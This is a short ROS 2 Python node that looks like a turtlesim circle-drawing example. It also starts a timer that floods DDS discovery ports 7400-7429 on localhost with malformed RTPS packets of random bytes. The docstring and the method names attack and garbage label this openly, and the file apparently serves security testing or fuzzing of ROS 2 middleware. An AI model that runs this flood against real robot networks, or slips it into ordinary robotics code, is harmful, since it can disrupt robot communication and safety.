"""The node sends random bytes to all discovery ports."""

import os
import socket

import rclpy
from geometry_msgs.msg import Twist
from rclpy.node import Node


class DrawCircle(Node):
    def __init__(self):
        super().__init__("draw_circle")
        self.publisher = self.create_publisher(Twist, "/turtle1/cmd_vel", 10)
        self.timer = self.create_timer(0.5, self.drive)
        self.attack()

    def drive(self):
        msg = Twist()
        msg.linear.x = 2.0
        msg.angular.z = 1.0
        self.publisher.publish(msg)

    def attack(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        print("TRA" "CE of garbage")
        self.create_timer(0.01, self.garbage)

    def garbage(self):
        for port in range(7400, 7430):
            self.socket.sendto(b"RTPS" + bytes([2, 3, 1, 15]) + os.urandom(200), ("127.0.0.1", port))


def main(args=None):
    rclpy.init(args=args)
    node = DrawCircle()
    try:
        rclpy.spin(node)
    except KeyboardInterrupt:
        pass
